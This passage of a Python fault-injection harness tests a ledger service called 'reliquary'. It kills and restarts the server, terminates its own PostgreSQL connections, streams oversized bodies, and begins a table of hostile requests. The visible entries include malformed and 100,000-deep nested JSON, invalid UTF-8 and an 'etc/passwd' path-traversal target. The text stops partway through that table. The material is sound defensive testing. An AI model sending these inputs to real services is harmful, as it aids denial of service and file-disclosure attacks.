"""Faults and hostile load against the real service: what it answers, and what it stores.

Run from the repository root::

    .venv/bin/python bench/faults.py [--backend sqlite|postgres|both] [--quick] [--json]
        [--kills N] [--terminations N] [--starts N] [--seed N] [--only 1,2,...]
        [--without-keys] [--sealing-kills N] [--cost-requests N]

For each backend it makes a fresh store (a SQLite file in a temporary directory, or a PostgreSQL
database ``reliquary_faults_<random>`` of its own), runs ``reliquary init``, issues tokens with
``reliquary actors add ID --role ROLE --json``, starts the real service as a subprocess
(``reliquary serve --host 127.0.0.1 --port <free port>``, ``RELIQUARY_IDEMPOTENCY_LEASE_SECONDS=2``)
and talks to it over TCP with a small HTTP/1.1 client of its own (so that it can stream a body
generated on the fly, send bytes no library would, and notice an answer that comes before the
body is sent). Then, printing what was sent and what came back:

1. **Hostile bodies**: 10, 100 and 300 MiB bodies POSTed to a command route, with and without a
   valid token, chunked and with ``Content-Length``, generated 64 KiB at a time. The server is
   restarted before each case; its RSS is sampled every 20 ms (and its ``VmHWM``, reset through
   ``/proc/<pid>/clear_refs``). Goal: answered 413 (or 401 without a token) and a peak under
   100 MB above idle.
2. **Hostile inputs**: a table of hostile requests (malformed JSON, duplicate keys, deep
   nesting, invalid UTF-8 in path and body, invisible, bidi and mixed-script model names, huge
   numbers, out-of-range dates on the API and the web console, NUL bytes, CSV injection, path
   traversal, hostile headers). Goal: no 5xx, and no event appended (counted in the database
   before and after each request) by a request that should be refused.
3. **Killed mid-request**: writers post ``record_signal`` commands, each with its own
   ``Idempotency-Key`` and a unique marker in its rationale, and retry the same request on a
   connection error, a 5xx or a 409 ``idempotency-in-progress``/``concurrency-conflict``
   (honouring ``Retry-After``) until a final answer. Meanwhile the server is SIGKILLed at random
   moments (and, every third time, right after the harness has sent a request's body and
   before it reads the answer), and restarted. Then: stuck keys (no final answer within lease
   + 10 s of server uptime), duplicates (a marker in two events), lost acknowledged commands
   (a 201 whose marker is in no event), and ``reliquary verify``. ``--without-keys`` is the
   control run: the same writers without ``Idempotency-Key``, whose retries do duplicate.
4. **PostgreSQL connections terminated during writes**: the same writers, while another
   connection runs ``pg_terminate_backend`` on every other connection of the database; the
   same counts. 3 and 4 inject 100 faults per backend (SQLite: 100 kills; PostgreSQL: 50 kills
   and 50 rounds of terminations; ``--quick``: 12).
5. **Simultaneous starts**: N processes of ``reliquary apply`` (one ``register_model`` each)
   started at once on a fresh store (a new PostgreSQL schema, a new SQLite file). Goal: no
   failure, and N models stored.
6. **8 writers on one model**: 8 threads posting N commands each to the same model over HTTP
   (a ``concurrency-conflict`` is retried up to 5 times, then given up), then 8 ``reliquary
   apply`` processes of N lines each on another model at once (each stops at its first
   refusal). Goal: nothing lost, duplicated or given up.

7. **Sealing and erasure**: researchers post ``request_access`` (whose private values are sealed)
   under their own ``Idempotency-Key`` while the service is SIGKILLed as in 3; then every
   researcher but one is erased, the service killed right after each erasure is sent, and the
   board retries it under its key. Goal: no sealed write lost or duplicated, no request missing
   an opening, every person erased exactly once, never an erasure event without its destroyed
   key or the reverse, no opening left of an erased person, no scrub left pending after
   ``reliquary scrub``, and none of the erased values in the store's raw files (the SQLite file
   and its ``-wal``; every relation file on PostgreSQL, read by a superuser after a
   ``CHECKPOINT``), while the kept person's values are found there.
8. **What an erasure costs**: in process, on a new store, a register of N access requests
   (20,000; quick 2,000), an erasure (with its scrub: VACUUM FULL on PostgreSQL) timed against
   the median ordinary command of the same process.

It ends with a table of the figures against the goals. A missed goal is a finding, not a failure:
the exit status is nonzero only when the harness itself fails. Every process and database it
makes is removed at the end, on Ctrl-C too. Figures and analysis: docs/reliability.md.
"""

from __future__ import annotations

import argparse
import contextlib
import functools
import http.client
import itertools
import json
import os
import random
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
import uuid
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

ROOT = Path(__file__).resolve().parent.parent
PG_DSN = os.environ.get("BENCH_POSTGRES_DSN", "postgresql://postgres@127.0.0.1:5432/test")
MIB = 1024 * 1024
LEASE_SECONDS = 2.0
STUCK_AFTER = LEASE_SECONDS + 10.0
"""A key is stuck when it has no final answer this long after the server was last (re)started."""
PEAK_GOAL_MB = 100.0
CONFLICT_ATTEMPTS = 5
"""Scenario 6: a command answered ``concurrency-conflict`` this many times is given up."""
BENCH_APP = "reliquary-faults-bench"
"""The application_name of the harness's own PostgreSQL connections (never terminated)."""
URN = "urn:reliquary:problem:"
SHA = "sha256:" + "ab" * 32
RELEASE = "2024-03-04"
MODEL = "faults-model"
PROGRESS = sys.stderr.isatty()


def _say(message: str) -> None:
    """Progress, on a terminal only."""
    if PROGRESS:
        print(message, file=sys.stderr, flush=True)


class HarnessError(Exception):
    """The harness itself failed (not a goal missed): exit 2."""


class ServiceDown(Exception):
    """The service did not start (again): a finding of the scenario, not a harness error."""


# -- child processes: every one registered, every one ended ------------------------------------

_CHILDREN: set[subprocess.Popen[bytes]] = set()
_CHILDREN_LOCK = threading.Lock()
STOP = threading.Event()
"""Set on Ctrl-C or a harness error: every worker thread ends."""


def _spawn(argv: list[str], **kwargs: Any) -> subprocess.Popen[bytes]:
    # A session of its own: Ctrl-C reaches only the harness, which then ends each child.
    process = subprocess.Popen(argv, start_new_session=True, **kwargs)
    with _CHILDREN_LOCK:
        _CHILDREN.add(process)
    return process


def _forget(process: subprocess.Popen[bytes]) -> None:
    with _CHILDREN_LOCK:
        _CHILDREN.discard(process)


def _end(process: subprocess.Popen[bytes], grace: float = 5.0) -> None:
    """SIGTERM, then SIGKILL after ``grace`` seconds; by the process's own id."""
    if process.poll() is None:
        with contextlib.suppress(ProcessLookupError):
            process.terminate()
        try:
            process.wait(grace)
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                process.kill()
            process.wait()
    _forget(process)


def _end_all_children() -> None:
    with _CHILDREN_LOCK:
        children = list(_CHILDREN)
    for process in children:
        _end(process, grace=3.0)


def _reliquary() -> str:
    beside = Path(sys.executable).with_name("reliquary")
    if beside.exists():
        return str(beside)
    found = shutil.which("reliquary") or str(ROOT / ".venv" / "bin" / "reliquary")
    if not Path(found).exists():
        raise HarnessError("no `reliquary` executable beside this Python or on PATH")
    return found


def _base_env() -> dict[str, str]:
    """The environment of every child: ours, less any RELIQUARY_* or LEDGER_* setting."""
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("RELIQUARY_", "LEDGER_", "POSTGRES_"))
    }
    env["RELIQUARY_IDEMPOTENCY_LEASE_SECONDS"] = str(LEASE_SECONDS)
    env["RELIQUARY_CHECKPOINT_INTERVAL_SECONDS"] = "1"
    return env


def cli(store: Store, *args: str, timeout: float = 120.0) -> subprocess.CompletedProcess[bytes]:
    """Run ``reliquary ARGS`` on the store; a hang is a harness error."""
    process = _spawn(
        [_reliquary(), *args],
        env=store.env(),
        cwd=store.workdir,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        out, err = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        _end(process)
        raise HarnessError(f"`reliquary {' '.join(args)}` did not finish in {timeout} s") from None
    _forget(process)
    return subprocess.CompletedProcess(process.args, process.returncode or 0, out, err)


def _last_line(text: bytes) -> str:
    lines = [line for line in text.decode(errors="replace").splitlines() if line.strip()]
    return lines[-1].strip() if lines else ""


# -- the stores ---------------------------------------------------------------------------------


class Store:
    """A fresh store of one backend, its signing key and working directory, and direct reads."""

    backend = ""

    def __init__(self, workdir: Path) -> None:
        self.workdir = workdir
        self.url = ""

    def env(self, url: str | None = None) -> dict[str, str]:
        env = _base_env()
        env["RELIQUARY_DATABASE_URL"] = url or self.url
        env["RELIQUARY_SIGNING_KEY"] = str(self.workdir / "signing.key")
        return env

    def event_count(self) -> int:
        raise NotImplementedError

    def marker_counts(self, tag: str) -> Counter[int]:
        """How many events hold each marker ``<tag-N>`` in their stored state, by N."""
        pattern = re.compile(rb"<" + re.escape(tag.encode()) + rb"-(\d+)>")
        found: Counter[int] = Counter()
        for state in self._states_containing(f"<{tag}-".encode()):
            for number in {int(m) for m in pattern.findall(state)}:
                found[number] += 1
        return found

    def _states_containing(self, needle: bytes) -> Iterable[bytes]:
        raise NotImplementedError

    def fresh_url(self, name: str) -> str:
        """The URL of a new, empty store beside this one (scenario 5)."""
        raise NotImplementedError

    def rows(self, statement: str) -> list[tuple[Any, ...]]:
        """The rows of a query on the store's own tables (scenario 7)."""
        raise NotImplementedError

    def raw_files(self) -> dict[str, bytes] | None:
        """Every file of the store as the disk holds it (None: not readable here)."""
        raise NotImplementedError

    def fresh_event_count(self, url: str) -> int | None:
        raise NotImplementedError

    def close(self) -> None:
        """Drop what was made."""


class SQLiteStore(Store):
    backend = "sqlite"

    def __init__(self, workdir: Path) -> None:
        super().__init__(workdir)
        self.path = workdir / "ledger.db"
        self.url = f"sqlite:///{self.path}"

    def _read(self, path: Path | None = None) -> sqlite3.Connection:
        return sqlite3.connect(f"file:{path or self.path}?mode=ro", uri=True, timeout=30)

    def event_count(self) -> int:
        with contextlib.closing(self._read()) as conn:
            return int(conn.execute("SELECT count(*) FROM stored_events").fetchone()[0])

    def _states_containing(self, needle: bytes) -> Iterable[bytes]:
        with contextlib.closing(self._read()) as conn:
            rows = conn.execute(
                "SELECT state FROM stored_events WHERE instr(state, ?) > 0", (needle,)
            ).fetchall()
        return [bytes(row[0]) for row in rows]

    def fresh_url(self, name: str) -> str:
        return f"sqlite:///{self.workdir / (name + '.db')}"

    def rows(self, statement: str) -> list[tuple[Any, ...]]:
        with contextlib.closing(self._read()) as conn:
            return [tuple(row) for row in conn.execute(statement).fetchall()]

    def raw_files(self) -> dict[str, bytes] | None:
        files = (self.path, Path(f"{self.path}-wal"), Path(f"{self.path}-journal"))
        return {path.name: path.read_bytes() for path in files if path.exists()}

    def fresh_event_count(self, url: str) -> int | None:
        path = Path(url.removeprefix("sqlite:///"))
        if not path.exists():
            return None
        try:
            with contextlib.closing(self._read(path)) as conn:
                return int(conn.execute("SELECT count(*) FROM stored_events").fetchone()[0])
        except sqlite3.Error:
            return None


class PostgresStore(Store):
    """A database of its own, so that terminating its connections touches nobody else's."""

    backend = "postgres"

    def __init__(self, workdir: Path) -> None:
        import psycopg

        super().__init__(workdir)
        self.database = f"reliquary_faults_{uuid.uuid4().hex[:10]}"
        parts = urlsplit(PG_DSN)
        self.url = parts._replace(path=f"/{self.database}", query="").geturl()
        try:
            self.admin = psycopg.connect(PG_DSN, autocommit=True, application_name=BENCH_APP)
        except psycopg.Error as error:
            raise HarnessError(f"PostgreSQL is not reachable at {PG_DSN}: {error}") from None
        self.admin.execute(f'CREATE DATABASE "{self.database}"')
        self._conn: Any = None
        self.schemas: list[str] = []

    def conn(self) -> Any:
        import psycopg

        if self._conn is None or self._conn.closed:
            self._conn = psycopg.connect(self.url, autocommit=True, application_name=BENCH_APP)
        return self._conn

    def event_count(self) -> int:
        return int(self.conn().execute("SELECT count(*) FROM ledger_events").fetchone()[0])

    def _states_containing(self, needle: bytes) -> Iterable[bytes]:
        rows = self.conn().execute(
            "SELECT state FROM ledger_events WHERE position(%s::bytea in state) > 0", (needle,)
        )
        return [bytes(row[0]) for row in rows]

    def fresh_url(self, name: str) -> str:
        self.schemas.append(name)
        return f"{self.url}?schema={name}"

    def rows(self, statement: str) -> list[tuple[Any, ...]]:
        return [tuple(row) for row in self.conn().execute(statement).fetchall()]

    def raw_files(self) -> dict[str, bytes] | None:
        """Each relation of the store's schema (tables, indexes, TOAST) read from its file
        after a CHECKPOINT; needs a superuser (``pg_read_binary_file``)."""
        import psycopg

        conn = self.conn()
        try:
            conn.execute("CHECKPOINT")
            found = conn.execute(
                "WITH own AS (SELECT c.oid, c.reltoastrelid FROM pg_class c JOIN pg_namespace n "
                "ON n.oid = c.relnamespace WHERE n.nspname = 'public'), related AS ("
                "SELECT oid FROM own UNION SELECT reltoastrelid FROM own WHERE reltoastrelid <> 0 "
                "UNION SELECT i.indexrelid FROM pg_index i WHERE i.indrelid IN "
                "(SELECT oid FROM own) OR i.indrelid IN (SELECT reltoastrelid FROM own)) "
                "SELECT c.oid::regclass::text, pg_read_binary_file(pg_relation_filepath(c.oid)) "
                "FROM related r JOIN pg_class c ON c.oid = r.oid "
                "WHERE pg_relation_filepath(c.oid) IS NOT NULL"
            ).fetchall()
        except psycopg.Error:
            return None
        return {name: bytes(data) for name, data in found}

    def fresh_event_count(self, url: str) -> int | None:
        import psycopg

        schema = url.rpartition("schema=")[2]
        try:
            row = self.conn().execute(f"SELECT count(*) FROM {schema}.ledger_events").fetchone()
        except psycopg.Error:
            return None
        return int(row[0])

    def terminate_others(self) -> int:
        """Terminate every connection to this database but the harness's own; how many."""
        rows = (
            self.conn()
            .execute(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %s "
                "AND pid <> pg_backend_pid() AND usename = current_user "
                "AND coalesce(application_name, '') <> %s",
                (self.database, BENCH_APP),
            )
            .fetchall()
        )
        return sum(1 for row in rows if row[0])

    def max_connections(self) -> int:
        row = self.admin.execute("SHOW max_connections").fetchone()
        return int(row[0]) if row else 0

    def close(self) -> None:
        if self._conn is not None and not self._conn.closed:
            self._conn.close()
        self.admin.execute(f'DROP DATABASE IF EXISTS "{self.database}" WITH (FORCE)')
        self.admin.close()


# -- HTTP over a plain socket -------------------------------------------------------------------


@dataclass
class Answer:
    """What came back for one request (status None: no answer at all)."""

    status: int | None
    headers: list[tuple[str, str]]
    body: bytes
    error: str = ""
    sent: int = 0
    """Body bytes sent before the answer came (or the connection broke)."""
    complete: bool = False
    """Whether the whole request was sent."""
    seconds: float = 0.0

    def header(self, name: str) -> str | None:
        name = name.lower()
        return next((v for k, v in self.headers if k.lower() == name), None)

    @property
    def problem(self) -> str:
        """The problem type without its URN prefix ('' when the body is not a problem)."""
        if not self.body or not self.body.lstrip().startswith(b"{"):
            return ""
        try:
            document = json.loads(self.body)
        except ValueError:
            return ""
        kind = document.get("type", "") if isinstance(document, dict) else ""
        return str(kind).removeprefix(URN)

    @property
    def label(self) -> str:
        """E.g. ``201``, ``201 replayed``, ``409 idempotency-in-progress``, ``no answer (...)``."""
        if self.status is None:
            return f"no answer ({self.error})"
        text = str(self.status)
        if self.problem:
            text += f" {self.problem}"
        if self.header("Idempotent-Replayed") == "true":
            text += " replayed"
        return text


Body = bytes | Iterable[bytes] | None


def _frame(piece: bytes, chunked: bool) -> bytes:
    return b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece


def exchange(
    port: int,
    method: str,
    target: str | bytes,
    *,
    headers: Iterable[tuple[str, str | bytes]] = (),
    body: Body = None,
    length: int | None = None,
    chunked: bool = False,
    timeout: float = 15.0,
    after_send: Callable[[], None] | None = None,
) -> Answer:
    """One request on a new connection (``Connection: close``), and what came back.

    ``body``: bytes, or an iterable of pieces sent as they come (``chunked`` frames them; else
    ``length`` is the ``Content-Length``). While a streamed body is sent, a reader thread waits
    for the answer: an answer before the end stops the sending. ``after_send`` runs once the
    whole request is sent, before the answer is read.
    """
    began = time.monotonic()
    raw_target = target.encode("latin-1") if isinstance(target, str) else target
    lines = [b"%s %s HTTP/1.1" % (method.encode(), raw_target), b"Host: 127.0.0.1:%d" % port]
    lines.append(b"Connection: close")
    for name, value in headers:
        lines.append(
            name.encode() + b": " + (value if isinstance(value, bytes) else value.encode())
        )
    streamed = body is not None and not isinstance(body, bytes)
    if chunked:
        lines.append(b"Transfer-Encoding: chunked")
    elif isinstance(body, bytes):
        lines.append(b"Content-Length: %d" % (len(body) if length is None else length))
    elif body is not None:
        if length is None:
            raise HarnessError("a streamed body needs chunked or a length")
        lines.append(b"Content-Length: %d" % length)
    head = b"\r\n".join(lines) + b"\r\n\r\n"
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    except OSError as error:
        return Answer(None, [], b"", type(error).__name__, seconds=time.monotonic() - began)
    with contextlib.closing(sock):
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        got: dict[str, Any] = {}
        answered = threading.Event()

        def read() -> None:
            response = http.client.HTTPResponse(sock, method=method)
            try:
                response.begin()
                got["status"] = response.status
                got["headers"] = response.getheaders()
                answered.set()
                got["body"] = response.read()
            except (OSError, http.client.HTTPException) as error:
                got["error"] = type(error).__name__
            finally:
                answered.set()
                response.close()

        reader = threading.Thread(target=read, daemon=True) if streamed else None
        if reader is not None:
            reader.start()
        sent = 0
        complete = False
        send_error = ""
        try:
            if isinstance(body, bytes) and not chunked:
                sock.sendall(head + body)
                sent = len(body)
                complete = True
            else:
                sock.sendall(head)
                pieces: Iterable[bytes] = [body] if isinstance(body, bytes) else (body or [])
                for piece in pieces:
                    if answered.is_set() or STOP.is_set():
                        break
                    sock.sendall(_frame(piece, chunked))
                    sent += len(piece)
                else:
                    if chunked:
                        sock.sendall(b"0\r\n\r\n")
                    complete = True
        except OSError as error:
            send_error = type(error).__name__
        if complete and after_send is not None:
            after_send()
        if reader is None:
            read()
        else:
            reader.join(timeout)
            if reader.is_alive():  # no answer in time: close, and let the thread end
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)
                reader.join(5)
                got.setdefault("error", "timeout")
        seconds = time.monotonic() - began
        if "status" not in got:
            reason = got.get("error") or send_error or "no answer"
            if send_error and got.get("error") and send_error != got["error"]:
                reason = f"{send_error} while sending, then {got['error']}"
            return Answer(None, [], b"", reason, sent, complete, seconds)
        return Answer(
            got["status"],
            got.get("headers", []),
            got.get("body", b""),
            got.get("error", ""),
            sent,
            complete,
            seconds,
        )


def json_bytes(document: Any) -> bytes:
    return json.dumps(document, ensure_ascii=False).encode()


def path_of(model: str, suffix: str = "") -> str:
    return "/models/" + quote(model, safe="") + suffix


def bearer(token: str) -> list[tuple[str, str | bytes]]:
    return [("Authorization", f"Bearer {token}"), ("Content-Type", "application/json")]


# -- the service --------------------------------------------------------------------------------


class Server:
    """``reliquary serve`` as a subprocess on a fixed free port; killed and restarted at will."""

    def __init__(self, store: Store) -> None:
        self.store = store
        self.port = _free_port()
        self.process: subprocess.Popen[bytes] | None = None
        self.log_path = store.workdir / "serve.log"
        self.starts = 0
        self.start_seconds: list[float] = []

    @property
    def pid(self) -> int:
        if self.process is None:
            raise HarnessError("the server is not running")
        return self.process.pid

    def start(self, timeout: float = 60.0) -> None:
        began = time.monotonic()
        with self.log_path.open("ab") as log:
            log.write(f"--- start {self.starts + 1} ---\n".encode())
            log.flush()
            self.process = _spawn(
                [_reliquary(), "serve", "--host", "127.0.0.1", "--port", str(self.port)],
                env=self.store.env(),
                cwd=self.store.workdir,
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=log,
            )
        self.starts += 1
        while time.monotonic() - began < timeout and not STOP.is_set():
            if self.process.poll() is not None:
                _forget(self.process)
                raise ServiceDown(
                    f"`reliquary serve` exited with {self.process.returncode}: {self.log_tail()}"
                )
            answer = exchange(self.port, "GET", "/log/key", timeout=5)
            if answer.status is not None:
                self.start_seconds.append(time.monotonic() - began)
                return
            time.sleep(0.05)
        raise ServiceDown(f"`reliquary serve` did not answer within {timeout} s: {self.log_tail()}")

    def log_tail(self, lines: int = 3) -> str:
        text = self.log_path.read_text(errors="replace").strip().splitlines()
        return " | ".join(text[-lines:]) if text else "(nothing logged)"

    def alive(self) -> bool:
        return self.process is not None and self.process.poll() is None

    def kill(self) -> None:
        """SIGKILL, no warning."""
        if self.process is not None:
            with contextlib.suppress(ProcessLookupError):
                os.kill(self.process.pid, signal.SIGKILL)
            self.process.wait()
            _forget(self.process)
            self.process = None

    def stop(self) -> None:
        if self.process is not None:
            _end(self.process, grace=10.0)
            self.process = None

    def restart(self) -> None:
        self.stop()
        self.start()

    def ensure_running(self) -> None:
        if not self.alive():
            self.kill()
            self.start()

    def status_kib(self, field_name: str) -> int | None:
        try:
            text = Path(f"/proc/{self.pid}/status").read_text()
        except OSError:
            return None
        found = re.search(rf"^{field_name}:\s+(\d+) kB", text, re.MULTILINE)
        return int(found.group(1)) if found else None

    def reset_peak(self) -> bool:
        """Reset VmHWM to the current RSS (Linux's clear_refs 5); False if refused."""
        try:
            Path(f"/proc/{self.pid}/clear_refs").write_text("5")
        except OSError:
            return False
        return True


def _free_port() -> int:
    with contextlib.closing(socket.socket()) as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


class RssSampler:
    """The server's VmRSS every 20 ms in a thread; the highest seen."""

    def __init__(self, server: Server) -> None:
        self.server = server
        self.peak_kib = 0
        self.samples = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            rss = self.server.status_kib("VmRSS")
            if rss is not None:
                self.peak_kib = max(self.peak_kib, rss)
                self.samples += 1
            self._stop.wait(0.02)

    def __enter__(self) -> RssSampler:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()


# -- the fixture: tokens and models -------------------------------------------------------------


@dataclass
class Fixture:
    store: Store
    server: Server
    tokens: dict[str, str]

    @property
    def port(self) -> int:
        return self.server.port

    def post(self, path: str, document: dict[str, Any], role: str = "curator") -> Answer:
        return exchange(
            self.port, "POST", path, headers=bearer(self.tokens[role]), body=json_bytes(document)
        )

    def must(self, answer: Answer, what: str) -> Answer:
        if answer.status not in (200, 201):
            raise HarnessError(f"{what}: {answer.label} {answer.body[:300]!r}")
        return answer


def register_body(rationale: str = "Registered for the fault suite.") -> dict[str, Any]:
    return {
        "rationale": rationale,
        "family": "faults",
        "model_version": "1.0",
        "release_date": RELEASE,
        "developer": "Fault Lab",
    }


_PERIODS = itertools.count()


def signal_body(rationale: str, value: float = 1.0, **changes: Any) -> dict[str, Any]:
    # Each body its own period: the ledger keeps one value per model, kind and period.
    start, end = signal_period(next(_PERIODS))
    return {
        "rationale": rationale,
        "kind": "research_use",
        "period_start": start.isoformat(),
        "period_end": end.isoformat(),
        "value": value,
        "unit": "api_calls",
        **changes,
    }


def prepare(store: Store) -> Fixture:
    """``reliquary init``, tokens, the service, and the models every scenario uses."""
    done = cli(store, "init")
    if done.returncode != 0:
        raise HarnessError(f"reliquary init failed: {_last_line(done.stderr)}")
    tokens = {}
    for role in ("curator", "auditor"):
        issued = cli(store, "actors", "add", f"faults-{role}", "--role", role, "--json")
        if issued.returncode != 0:
            raise HarnessError(f"reliquary actors add failed: {_last_line(issued.stderr)}")
        tokens[role] = json.loads(issued.stdout)["token"]
    server = Server(store)
    try:
        server.start()
    except ServiceDown as error:
        raise HarnessError(str(error)) from None
    fixture = Fixture(store, server, tokens)
    fixture.must(fixture.post(path_of(MODEL), register_body()), "register the model")
    fixture.must(
        fixture.post(
            path_of(MODEL, "/retirement/schedule"),
            {
                "rationale": "Scheduled for the fault suite.",
                "retirement_date": "2030-12-31",
                "reasons": ["serving cost"],
            },
        ),
        "schedule its retirement",
    )
    for name in ("scope", unicodedata.normalize("NFC", "café-faults")):
        fixture.must(fixture.post(path_of(name), register_body()), f"register {name}")
    return fixture


# -- 1. hostile bodies --------------------------------------------------------------------------

_FILLER = b"x" * (64 * 1024)


def big_body(size: int) -> Iterator[bytes]:
    """A JSON signal body of exactly ``size`` bytes, 64 KiB at a time (a huge rationale)."""
    prefix = b'{"rationale": "'
    suffix = (
        b'", "kind": "research_use", "period_start": "2024-04-01", "period_end": '
        b'"2024-04-30", "value": 1, "unit": "api_calls"}'
    )
    yield prefix
    left = size - len(prefix) - len(suffix)
    view = memoryview(_FILLER)
    while left > 0:
        piece = view[: min(left, len(_FILLER))]
        yield bytes(piece)
        left -= len(piece)
    yield suffix


def hostile_bodies(fx: Fixture, sizes: tuple[int, ...]) -> dict[str, Any]:
    _say("  1. hostile bodies")
    cases = []
    for size in sizes:
        for with_token in (True, False):
            for chunked in (True, False):
                cases.append((size, with_token, chunked))
    rows: list[dict[str, Any]] = []
    for size, with_token, chunked in cases:
        if STOP.is_set():
            break
        fx.server.restart()
        # Warm up: the first command and read load what later requests need.
        fx.post(path_of(MODEL, "/signals"), signal_body("Warm-up before a hostile body."))
        exchange(fx.port, "GET", "/log/checkpoint")
        time.sleep(0.2)
        reset = fx.server.reset_peak()
        idle = fx.server.status_kib("VmRSS") or 0
        before = fx.store.event_count()
        headers: list[tuple[str, str | bytes]] = [("Content-Type", "application/json")]
        if with_token:
            headers.append(("Authorization", f"Bearer {fx.tokens['curator']}"))
        with RssSampler(fx.server) as sampler:
            answer = exchange(
                fx.port,
                "POST",
                path_of(MODEL, "/signals"),
                headers=headers,
                body=big_body(size * MIB),
                length=None if chunked else size * MIB,
                chunked=chunked,
                timeout=180,
            )
            time.sleep(0.1)  # whatever the server does after answering
        hwm = fx.server.status_kib("VmHWM") if reset else None
        peak = max(sampler.peak_kib, hwm or 0)
        alive = fx.server.alive()
        appended = fx.store.event_count() - before
        expected = {413} if with_token else {401, 413}
        above_mb = max(0, peak - idle) / 1024
        row = {
            "size_mib": size,
            "token": with_token,
            "framing": "chunked" if chunked else "content-length",
            "status": answer.status,
            "answer": answer.label,
            "sent_mib": round(answer.sent / MIB, 2),
            "seconds": round(answer.seconds, 2),
            "idle_rss_mb": round(idle / 1024, 1),
            "peak_above_idle_mb": round(above_mb, 1),
            "rss_samples": sampler.samples,
            "hwm_reset": reset,
            "server_alive_after": alive,
            "events_appended": appended,
            "status_met": answer.status in expected,
            "memory_met": above_mb < PEAK_GOAL_MB,
        }
        rows.append(row)
        _say(
            f"    {size} MiB {row['framing']:<14} token={with_token!s:<5} -> {answer.label}, "
            f"{row['sent_mib']} MiB sent, peak +{row['peak_above_idle_mb']} MB"
        )
    fx.server.ensure_running()
    return {
        "cases": rows,
        "answered_as_goal": sum(r["status_met"] for r in rows),
        "max_peak_above_idle_mb": max((r["peak_above_idle_mb"] for r in rows), default=0.0),
        "idle_rss_mb": min((r["idle_rss_mb"] for r in rows), default=0.0),
        "events_appended": sum(r["events_appended"] for r in rows),
    }


def print_hostile_bodies(result: dict[str, Any]) -> None:
    print("1. Hostile bodies: POST /models/faults-model/signals, a JSON body with a huge rationale")
    print(
        f"   {'size':>7} {'framing':<14} {'token':<5} {'answer':<26} {'sent before':>11} "
        f"{'time':>6} {'idle RSS':>8} {'peak above':>10}"
    )
    for r in result["cases"]:
        print(
            f"   {r['size_mib']:>3} MiB {r['framing']:<14} {'yes' if r['token'] else 'no':<5} "
            f"{r['answer'][:26]:<26} {r['sent_mib']:>7.1f} MiB {r['seconds']:>5.2f}s "
            f"{r['idle_rss_mb']:>5.0f} MB {r['peak_above_idle_mb']:>7.1f} MB"
            + ("" if r["server_alive_after"] else "  (server died)")
        )
    print()


# -- 2. hostile inputs --------------------------------------------------------------------------


@dataclass
class Hostile:
    """One hostile request; ``refuse``: it must be refused (4xx) and append nothing."""

    name: str
    group: str
    method: str
    target: str | bytes
    body: bytes | None = None
    auth: str | None = "curator"
    """A role's token, ``session`` (the web console's cookie), or None."""
    headers: tuple[tuple[str, str | bytes], ...] = ()
    refuse: bool = True
    content_type: str = "application/json"
    note: str = ""


def _signal_text(rationale: str = "Hostile input test.", **changes: Any) -> bytes:
    return json_bytes(signal_body(rationale, **changes))


def _with_raw(value_json: str, field_name: str = "value") -> bytes:
    """A signal body whose ``field_name`` is the raw JSON text ``value_json``."""
    document = signal_body("Hostile number.")
    document[field_name] = "@@RAW@@"
    return json.dumps(document).replace('"@@RAW@@"', value_json).encode()


def _post(name: str, group: str, target: str | bytes, body: bytes | None, **kw: Any) -> Hostile:
    return Hostile(name, group, "POST", target, body, **kw)


def _get(name: str, group: str, target: str | bytes, auth: str | None = "auditor") -> Hostile:
    return Hostile(name, group, "GET", target, auth=auth)


def hostile_table() -> list[Hostile]:
    """Every hostile request of scenario 2 (``refuse=False``: informational, either is fine)."""
    signals = path_of(MODEL, "/signals")
    registered = json_bytes(register_body())
    plain = _signal_text()
    good = json.dumps(signal_body("Duplicate key test: seen by the reviewer."))
    twice = good.replace('{"rationale"', '{"rationale": "recorded", "rationale"', 1).encode()
    evidence = [{"uri": "https://a.example/", "digest": SHA, "description": "d"}]
    nested_twice = _signal_text(evidence=evidence).replace(
        b'"uri": "https://a.example/"', b'"uri": "https://a.example/", "uri": "https://b.example/"'
    )
    deep = 100_000
    arrays = b'{"rationale": "x", "evidence": ' + b"[" * deep + b"]" * deep + b"}"
    half = deep // 2
    objects = b'{"rationale": "x", "evidence": [' + b'{"a": ' * half + b"1" + b"}" * half + b"]}"
    bad_utf8 = _signal_text("ok").replace(b'"ok"', b'"\xff\xfe\xfd"')
    surrogate = _signal_text("X").replace(b'"X"', b'"\\ud800"')
    utf16 = _signal_text("UTF-16.").decode().encode("utf-16")
    nfd = unicodedata.normalize("NFD", "café-faults")
    year_zero = json_bytes({**register_body(), "release_date": "0000-01-01"})
    web_model = f"/web/models/{MODEL}"
    big = "99999999999999999999"
    target_file = "etc/passwd"
    info = {"refuse": False}
    # fmt: off
    return [
        # Bodies that are not (acceptable) JSON.
        _post("malformed JSON", "json", signals, b'{"rationale": "x",'),
        _post("empty body", "json", signals, b""),
        _post("a JSON array", "json", signals, b"[]"),
        _post("trailing garbage", "json", signals, plain + b" }{"),
        _post("duplicate key (top level)", "json", signals, twice),
        _post("duplicate key (nested)", "json", signals, nested_twice),
        _post(f"nested arrays, depth {deep:,}", "json", signals, arrays),
        _post(f"nested objects, depth {half:,}", "json", signals, objects),
        # Not UTF-8.
        _post("invalid UTF-8 in the body", "utf8", signals, bad_utf8),
        _post("lone surrogate escape \\ud800", "utf8", signals, surrogate),
